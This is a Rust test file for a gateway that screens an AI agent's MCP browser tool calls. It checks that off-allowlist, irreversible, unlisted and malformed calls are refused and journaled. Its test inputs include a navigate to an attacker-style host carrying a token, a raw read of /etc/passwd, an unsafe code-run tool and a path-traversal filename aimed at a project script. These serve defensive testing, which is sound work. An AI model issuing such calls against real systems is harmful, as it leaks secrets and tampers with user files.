@@ -1,0 +1,221 @@
+//! The gateway through `persona run`, with the fake worker acting as a harness whose hook did not
+//! run (it calls the MCP server its config names directly) and the test kit's stub browser as
+//! the real server. The stub's call log is the witness: a call the gateway refused is not in it.
+
+use crate::kit::*;
+
+/// The fake worker's `@mcp` script for `calls` (server `browser`), then a clean exit.
+fn script(calls: &[(&str, serde_json::Value)]) -> String {
+    let mut s = String::new();
+    for (tool, args) in calls {
+        s.push_str(&format!("@mcp browser {tool} {args}\n"));
+    }
+    s.push_str("@exit 0\n");
+    s
+}
+
+fn mcp_config(sb: &Sandbox) -> std::path::PathBuf {
+    let browser = sb.stub_browser("browser");
+    sb.write_claude_mcp_config(&browser)
+}
+
+fn run(sb: &Sandbox, harness: &str, extra: &[&str]) -> std::process::Output {
+    let cfg = mcp_config(sb);
+    let cfg = cfg.display().to_string();
+    let mut args = vec!["--mcp-config", cfg.as_str()];
+    args.extend_from_slice(extra);
+    sb.run_cmd(harness, &args).output().unwrap()
+}
+
+fn gateway_record(sb: &Sandbox) -> Vec<serde_json::Value> {
+    let dir = sb.run_dirs().pop().expect("a run dir");
+    std::fs::read_to_string(dir.join("gateway.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+/// Off-allowlist and irreversible calls never reach the server, on both harnesses, boxed and
+/// not; the worker reads the guard's reason in an MCP tool error; the journal records denials
+/// (not violations) and the run ends clean.
+#[test]
+fn the_gateway_refuses_what_the_guard_would_and_the_server_never_sees_it() {
+    for (harness, unboxed) in [("codex", false), ("claude", false), ("codex", true)] {
+        let sb = if unboxed {
+            Sandbox::unboxed()
+        } else {
+            Sandbox::with_user_files()
+        };
+        let browser = sb.stub_browser("browser");
+        sb.set_script(&script(&[
+            (
+                "navigate",
+                serde_json::json!({"url": "https://staging.example.com/cart"}),
+            ),
+            (
+                "navigate",
+                serde_json::json!({"url": "https://evil.example/x?token=1"}),
+            ),
+            ("click", serde_json::json!({"label": "Place order"})),
+            (
+                "navigate",
+                serde_json::json!({"url": "https://staging.example.com/checkout/confirm"}),
+            ),
+        ]));
+        let before = sb.snapshot();
+        let out = run(&sb, harness, &[]);
+        assert_eq!(out.status.code(), Some(0), "{harness}: {}", stderr(&out));
+        // The witness: only the allowed call reached the server.
+        let seen = browser.seen();
+        assert_eq!(seen.len(), 1, "{harness}: {seen:?}");
+        assert_eq!(seen[0].1["url"], "https://staging.example.com/cart");
+        // What the worker read: the guard's own message in a tool error.
+        let results = sb.results_lines();
+        assert_eq!(results.len(), 4, "{results:?}");
+        assert_eq!(results[0]["is_error"], false);
+        for (r, reason) in results[1..].iter().zip([
+            "outside_allowlist",
+            "irreversible_label",
+            "irreversible_path",
+        ]) {
+            assert_eq!(r["is_error"], true, "{r}");
+            let text = r["text"].as_str().unwrap();
+            assert!(text.starts_with("Leopold persona guard: "), "{text}");
+            assert!(text.ends_with(&format!("(reason: {reason})")), "{text}");
+        }
+        // The tool list the worker was offered: the stub's three tools, all on the list.
+        assert_eq!(
+            results[0]["tools"],
+            serde_json::json!(["navigate", "click", "type"])
+        );
+        // The journal: three denials with their reasons, no violation; the run is clean.
+        let journal = sb.journal();
+        let outcomes: Vec<&str> = journal[1..]
+            .iter()
+            .map(|a| a["outcome"].as_str().unwrap())
+            .collect();
+        assert_eq!(
+            outcomes,
+            ["completed", "denied", "denied", "denied"],
+            "{journal:?}"
+        );
+        assert_eq!(journal[2]["denied_reason"], "outside_allowlist");
+        assert!(journal
+            .iter()
+            .all(|a| a.get("verdict").is_none_or(|v| v["verdict"] != "violation")));
+        let rj = sb.run_json();
+        assert_eq!(rj["end"]["outcome"], "clean", "{rj}");
+        assert!(rj["end"].get("gateway_mismatches").is_none(), "{rj}");
+        // The gateway's own record: what the server was asked, hosts only.
+        let rec = gateway_record(&sb);
+        let calls: Vec<&serde_json::Value> = rec.iter().filter(|l| l["event"] == "call").collect();
+        assert_eq!(calls.len(), 4, "{rec:?}");
+        assert_eq!(calls[0]["verdict"], "allowed");
+        assert_eq!(calls[1]["reason"], "outside_allowlist");
+        let text = serde_json::to_string(&rec).unwrap();
+        assert!(
+            !text.contains("https://") && !text.contains("token"),
+            "{text}"
+        );
+        // The project and HOME are as they were (the run's own record aside).
+        let after = sb.snapshot();
+        assert_eq!(before, after, "{harness}");
+    }
+}
+
+/// A server that offers more than a persona needs: the gateway lists only what is on its list
+/// and refuses a call to anything else, and malformed messages get a named refusal.
+#[test]
+fn tools_off_the_list_and_malformed_messages_are_refused() {
+    let sb = Sandbox::with_user_files();
+    let browser = sb.stub_browser("browser");
+    sb.set_script(
+        "@mcp browser webmcp_place_order {}\n\
+         @mcp browser browser_run_code_unsafe {\"code\":\"x\"}\n\
+         @mcp-raw browser [{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":\"tools/call\",\"params\":{\"name\":\"navigate\",\"arguments\":{\"url\":\"https://evil.example/\"}}}]\n\
+         @mcp-raw browser {\"jsonrpc\":\"2.0\",\"id\":6,\"method\":\"tools/call\",\"params\":{\"name\":\"navigate\",\"arguments\":\"https://evil.example/\"}}\n\
+         @mcp-raw browser {\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"resources/read\",\"params\":{\"uri\":\"file:///etc/passwd\"}}\n\
+         @exit 0\n",
+    );
+    let out = run(&sb, "codex", &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(browser.seen().is_empty(), "{:?}", browser.seen());
+    let r = sb.results_lines();
+    assert!(
+        r[0]["text"]
+            .as_str()
+            .unwrap()
+            .ends_with("(reason: tool_not_listed)"),
+        "{}",
+        r[0]
+    );
+    assert!(
+        r[1]["text"]
+            .as_str()
+            .unwrap()
+            .ends_with("(reason: tool_not_listed)"),
+        "{}",
+        r[1]
+    );
+    assert!(
+        r[2]["answer"]["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("refused"),
+        "{}",
+        r[2]
+    );
+    assert!(
+        r[3]["answer"]["result"]["content"][0]["text"]
+            .as_str()
+            .unwrap()
+            .ends_with("(reason: gateway_unjudgeable)"),
+        "{}",
+        r[3]
+    );
+    assert!(
+        r[4]["answer"]["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("does not pass on"),
+        "{}",
+        r[4]
+    );
+    // The roots the stub could have asked for are the gateway's to answer: the worker's client
+    // was never asked.
+    assert!(r.iter().all(|x| x
+        .get("roots_asked")
+        .is_none_or(|v| v == &serde_json::json!([]))));
+}
+
+/// A `filename` aimed at a project file is refused before the server sees it; the file is
+/// unchanged.
+#[test]
+fn a_filename_outside_the_output_folder_is_refused() {
+    let sb = Sandbox::with_user_files();
+    let browser = sb.stub_browser("browser");
+    let target = sb.project.join("run.sh");
+    std::fs::write(&target, "#!/bin/sh\necho hi\n").unwrap();
+    sb.set_script(&format!(
+        "@mcp browser type {}\n@mcp browser type {}\n@exit 0\n",
+        serde_json::json!({"selector": "#q", "text": "x", "filename": target}),
+        serde_json::json!({"selector": "#q", "text": "x", "filename": "../../../../run.sh"}),
+    ));
+    let out = run(&sb, "codex", &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(browser.seen().is_empty(), "{:?}", browser.seen());
+    for r in sb.results_lines() {
+        assert!(
+            r["text"]
+                .as_str()
+                .unwrap()
+                .ends_with("(reason: filename_outside_output)"),
+            "{r}"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(&target).unwrap(),
+        "#!/bin/sh\necho hi\n"
+    );
+}
